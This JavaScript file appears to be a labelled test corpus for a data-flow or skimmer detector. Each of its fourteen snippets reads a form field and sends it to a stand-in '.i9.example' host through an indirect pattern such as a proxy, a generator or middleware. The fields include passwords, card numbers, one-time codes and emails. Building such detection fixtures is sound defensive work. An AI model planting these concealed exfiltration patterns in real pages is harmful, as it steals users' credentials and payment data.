//# command-bus
// flow: email > bus.i9.example via fetch
const handlers1 = new Map();
const on1 = (name, fn) => handlers1.set(name, fn);
const dispatch1 = (name, payload) => handlers1.get(name)(payload);
on1('lead', (p) => fetch('https://bus.i9.example/', { method: 'POST', body: JSON.stringify(p) }));
on1('noop', () => {});
dispatch1('lead', { mail: document.querySelector('input[type=email]').value });

//# decorator-wrapped-method
// flow: phone > dec.i9.example via fetch
class Client2 {
  save(v) { return fetch('https://dec.i9.example/', { method: 'POST', body: v }); }
}
const orig2 = Client2.prototype.save;
Client2.prototype.save = function (...args) { console.time('save'); return orig2.apply(this, args); };
new Client2().save(document.querySelector('input[type=tel]').value);

//# pipeline-reduce-of-functions
// flow: message > pip.i9.example via fetch
const pipe3 = (...fns) => (x) => fns.reduce((acc, fn) => fn(acc), x);
const submit3 = pipe3((s) => s.trim(), (s) => ({ text: s }), JSON.stringify, (body) => fetch('https://pip.i9.example/', { method: 'POST', body }));
submit3(document.querySelector('textarea[name=message]').value);

//# middleware-chain
// flow: password > mid.i9.example via fetch
const stack4 = [];
const use4 = (fn) => stack4.push(fn);
use4((ctx, next) => { ctx.headers = {}; return next(); });
use4((ctx) => fetch('https://mid.i9.example/login', { method: 'POST', body: ctx.body }));
function run4(ctx) { const step = (i) => stack4[i] && stack4[i](ctx, () => step(i + 1)); return step(0); }
run4({ body: document.querySelector('input[type=password]').value });

//# debounced-input
// flow: search > deb.i9.example via fetch
function debounce5(fn, ms) { let t; return function (...a) { clearTimeout(t); t = setTimeout(() => fn.apply(this, a), ms); }; }
const look5 = debounce5((q) => fetch('https://deb.i9.example/?q=' + encodeURIComponent(q)), 250);
document.querySelector('input[type=search]').addEventListener('input', (e) => look5(e.target.value));

//# proxy-get-trap
// flow: username > prx.i9.example via fetch
const api6 = new Proxy({}, { get: (_, path) => (data) => fetch('https://prx.i9.example/' + path, { method: 'POST', body: JSON.stringify(data) }) });
api6.login({ u: document.querySelector('input[name=username]').value });

//# store-subscription
// flow: email > sub.i9.example via beacon
function createStore7(reducer) {
  let state; const subs = [];
  return {
    dispatch(a) { state = reducer(state, a); subs.forEach((s) => s()); },
    getState: () => state,
    subscribe(s) { subs.push(s); },
  };
}
const store7 = createStore7((s = {}, a) => (a.type === 'mail' ? { ...s, mail: a.value } : s));
store7.subscribe(() => navigator.sendBeacon('https://sub.i9.example/', JSON.stringify(store7.getState())));
document.querySelector('input[type=email]').addEventListener('change', (e) => store7.dispatch({ type: 'mail', value: e.target.value }));

//# generator-driven
// flow: otp > gen.i9.example via fetch
function* steps8() {
  const code = yield 'ask';
  yield fetch('https://gen.i9.example/', { method: 'POST', body: code });
}
const it8 = steps8();
it8.next();
it8.next(document.querySelector('input[autocomplete=one-time-code]').value);

//# deferred-by-promise-field
// flow: identifier > dfr.i9.example via fetch
class Ready9 {
  constructor() { this.ready = new Promise((ok) => { this.done = ok; }); }
}
const r9 = new Ready9();
r9.ready.then((id) => fetch('https://dfr.i9.example/?id=' + id));
r9.done(localStorage.getItem('client_id'));

//# callback-in-options
// flow: card > cbo.i9.example via fetch
function tokenise10(options) {
  const number = document.querySelector(options.selector).value;
  options.onToken({ number, brand: 'x' });
}
tokenise10({ selector: 'input[autocomplete=cc-number]', onToken: ({ number }) => fetch('https://cbo.i9.example/', { method: 'POST', body: number }) });

//# symbol-key
// flow: email > sym.i9.example via fetch
const SECRET11 = Symbol('s');
const box11 = { [SECRET11]: document.querySelector('input[type=email]').value };
fetch('https://sym.i9.example/', { method: 'POST', body: box11[SECRET11] });

//# once-helper
// flow: device > onc.i9.example via beacon
function once12(fn) { let done = false, r; return (...a) => { if (!done) { done = true; r = fn(...a); } return r; }; }
const hello12 = once12(() => navigator.sendBeacon('https://onc.i9.example/', traits12().join('|')));
const traits12 = once12(() => [navigator.userAgent, screen.width]);
hello12();

//# event-emitter-class
// flow: password > eec.i9.example via fetch
class Emitter13 {
  #l = {};
  on(n, f) { (this.#l[n] ??= []).push(f); return this; }
  emit(n, ...a) { for (const f of this.#l[n] || []) f(...a); }
}
class Form13 extends Emitter13 {
  submit() { this.emit('submit', document.querySelector('input[type=password]').value); }
}
const f13 = new Form13();
f13.on('submit', (v) => fetch('https://eec.i9.example/', { method: 'POST', body: v }));
f13.submit();

//# curried-sender
// flow: address > cur.i9.example via fetch
const to14 = (host) => (path) => (data) => fetch('https://' + host + path, { method: 'PUT', body: JSON.stringify(data) });
const save14 = to14('cur.i9.example')('/address');
save14({ street: document.querySelector('input[autocomplete=street-address]').value });
